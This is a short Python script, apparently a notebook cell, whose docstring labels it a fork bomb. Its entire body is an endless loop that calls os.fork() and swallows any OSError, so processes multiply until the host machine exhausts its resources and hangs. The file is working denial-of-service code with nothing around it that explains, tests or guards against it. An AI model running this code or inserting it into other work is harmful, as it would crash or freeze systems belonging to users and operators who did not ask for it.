"""A fork bomb: each process starts others as fast as it can."""
# %% first
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
